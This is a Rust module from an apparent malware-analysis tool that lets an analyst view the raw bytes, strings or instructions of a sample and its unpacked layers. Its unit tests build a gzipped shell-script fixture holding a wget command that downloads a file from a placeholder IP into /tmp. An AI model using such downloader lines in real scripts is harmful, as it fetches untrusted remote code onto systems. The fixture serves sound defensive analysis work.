//! What an analyst looks at: bytes, texts and instructions of a sample, or of a layer in it.
//!
//! The questions and answers are data, so that they go through a jail: a layer must be unpacked
//! before it can be looked at, and headers are read.

use crate::analyze;
use crate::code::{self, Code};
use crate::limits::{
    Limits, VIEW_BYTES_MAX, VIEW_INSTRUCTIONS_MAX, VIEW_TEXT_BYTES_MAX, VIEW_TEXTS_MAX,
};
use crate::observables::runs;
use serde::{Deserialize, Serialize};
use ukai_model::{PeerText, Timestamp};

/// A look into a sample.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct View {
    /// Which of the analysis' members; none: the sample itself.
    pub layer: Option<u32>,
    /// What is looked at.
    pub look: Look,
}

/// What is looked at.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Look {
    /// Bytes.
    Bytes {
        /// From here on.
        offset: u64,
        /// So many; at most 16 KiB.
        length: u64,
    },
    /// Printable texts: ASCII and UTF-16.
    Texts {
        /// From here on.
        offset: u64,
        /// Those in which this stands, ignoring ASCII case.
        find: String,
        /// So many; at most 500.
        count: u32,
    },
    /// Instructions.
    Code {
        /// From here on; none: from the entry point.
        offset: Option<u64>,
        /// So many; at most 500.
        count: u32,
    },
}

/// What is seen.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, utoipa::ToSchema)]
pub struct Viewed {
    /// Length of the sample or layer, in bytes.
    pub size: u64,
    /// What was asked for.
    #[serde(flatten)]
    pub seen: Seen,
}

/// What was asked for.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, utoipa::ToSchema)]
#[serde(tag = "kind", rename_all = "lowercase")]
pub enum Seen {
    /// Bytes.
    Bytes {
        /// Place of the first.
        offset: u64,
        /// In hexadecimal digits.
        hex: String,
    },
    /// Texts.
    Texts {
        /// In order.
        texts: Vec<Text>,
        /// Where the search goes on; none: it came to the end.
        next: Option<u64>,
    },
    /// Instructions.
    Code(Code),
    /// Nothing, and why.
    Nothing {
        /// For a reader.
        reason: String,
    },
}

/// A printable text.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, utoipa::ToSchema)]
pub struct Text {
    /// Place of its first byte.
    pub offset: u64,
    /// Whether it is UTF-16 (little-endian).
    pub wide: bool,
    /// The text, cut after 1,024 bytes.
    #[schema(value_type = String)]
    pub text: PeerText,
}

/// Looks.
pub fn view(sample: &[u8], view: &View) -> Viewed {
    let limits = Limits::default();
    let layer =
        view.layer.map(|number| analyze::layer(sample, number, Timestamp::default(), &limits));
    let bytes = match &layer {
        None => sample,
        Some(Some(layer)) => layer.as_slice(),
        Some(None) => {
            let reason = "there is no such layer".to_owned();
            return Viewed { size: 0, seen: Seen::Nothing { reason } };
        }
    };
    let seen = match &view.look {
        Look::Bytes { offset, length } => part(bytes, *offset, *length),
        Look::Texts { offset, find, count } => texts(bytes, *offset, find, *count),
        Look::Code { offset, count } => {
            let count = (*count as usize).min(VIEW_INSTRUCTIONS_MAX);
            match code::at(bytes, *offset, count) {
                Ok(code) => Seen::Code(code),
                Err(reason) => Seen::Nothing { reason },
            }
        }
    };
    Viewed { size: bytes.len() as u64, seen }
}

fn part(bytes: &[u8], offset: u64, length: u64) -> Seen {
    let start = usize::try_from(offset).unwrap_or(usize::MAX).min(bytes.len());
    let length = usize::try_from(length).unwrap_or(usize::MAX).min(VIEW_BYTES_MAX);
    let end = start.saturating_add(length).min(bytes.len());
    Seen::Bytes { offset: start as u64, hex: hex::encode(&bytes[start..end]) }
}

fn texts(bytes: &[u8], offset: u64, find: &str, count: u32) -> Seen {
    let start = usize::try_from(offset).unwrap_or(usize::MAX).min(bytes.len());
    let wanted = find.to_ascii_lowercase();
    let count = (count as usize).clamp(1, VIEW_TEXTS_MAX);
    let mut texts = Vec::new();
    for run in runs(&bytes[start..]) {
        let text = run.text(&bytes[start..]);
        let place = (start + run.at) as u64;
        if !wanted.is_empty() && !contains(&text, wanted.as_bytes()) {
            continue;
        }
        if texts.len() == count {
            return Seen::Texts { texts, next: Some(place) };
        }
        let text = PeerText::truncated(&text, VIEW_TEXT_BYTES_MAX);
        texts.push(Text { offset: place, wide: run.wide, text });
    }
    Seen::Texts { texts, next: None }
}

fn contains(text: &[u8], wanted: &[u8]) -> bool {
    memchr::memmem::find(&text.to_ascii_lowercase(), wanted).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write as _;

    fn seen(sample: &[u8], layer: Option<u32>, look: Look) -> Seen {
        view(sample, &View { layer, look }).seen
    }

    fn gzip(bytes: &[u8]) -> Vec<u8> {
        let mut writer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        writer.write_all(bytes).expect("memory");
        writer.finish().expect("memory")
    }

    #[test]
    fn bytes_are_cut_to_what_there_is() {
        let bytes = |offset, length| seen(b"0123456789", None, Look::Bytes { offset, length });
        let is = |offset, hex: &str| Seen::Bytes { offset, hex: hex.to_owned() };
        assert_eq!(bytes(2, 3), is(2, "323334"));
        assert_eq!(bytes(8, u64::MAX), is(8, "3839"));
        assert_eq!(bytes(u64::MAX, 1), is(10, ""));
    }

    #[test]
    fn texts_are_found_page_by_page() {
        let sample = b"\x01\x02first text\0\xffs\0e\0c\0o\0n\0d\0 \0\x01third TEXT\x80";
        let look = |offset, find: &str, count| {
            let look = Look::Texts { offset, find: find.to_owned(), count };
            match seen(sample, None, look) {
                Seen::Texts { texts, next } => {
                    let lines = texts.iter().map(|one| format!("{} {}", one.offset, one.text));
                    (lines.collect::<Vec<_>>(), next)
                }
                other => panic!("{other:?}"),
            }
        };
        let (first, next) = look(0, "", 2);
        assert_eq!(first, ["2 first text", "14 second "]);
        assert_eq!(
            look(next.expect("there is more"), "", 2),
            (vec!["29 third TEXT".to_owned()], None)
        );
        assert_eq!(look(0, "text", 9).0, ["2 first text", "29 third TEXT"]);
        assert_eq!(look(0, "nowhere", 9), (Vec::new(), None));
    }

    #[test]
    fn layers_are_those_of_the_analysis() {
        let inner = b"#!/bin/sh\nwget http://192.0.2.7/inner -O /tmp/x\n";
        let sample = gzip(&gzip(inner));
        let analysis = analyze(&sample, Timestamp::default(), &Limits::default(), &mut |_| ());
        for (number, member) in analysis.members.iter().enumerate() {
            let look = Look::Bytes { offset: 0, length: 16 << 10 };
            let Seen::Bytes { hex, .. } = seen(&sample, Some(number as u32), look) else {
                panic!("no bytes of layer {number}");
            };
            let bytes = hex::decode(hex).expect("digits");
            assert_eq!(ukai_model::Sha256::of(&bytes), member.sha256, "layer {number}");
        }
        assert!(
            analysis.members.iter().any(|member| member.sha256 == ukai_model::Sha256::of(inner))
        );
        let look = Look::Code { offset: None, count: 1 };
        assert!(matches!(seen(&sample, Some(99), look), Seen::Nothing { .. }));
    }
}
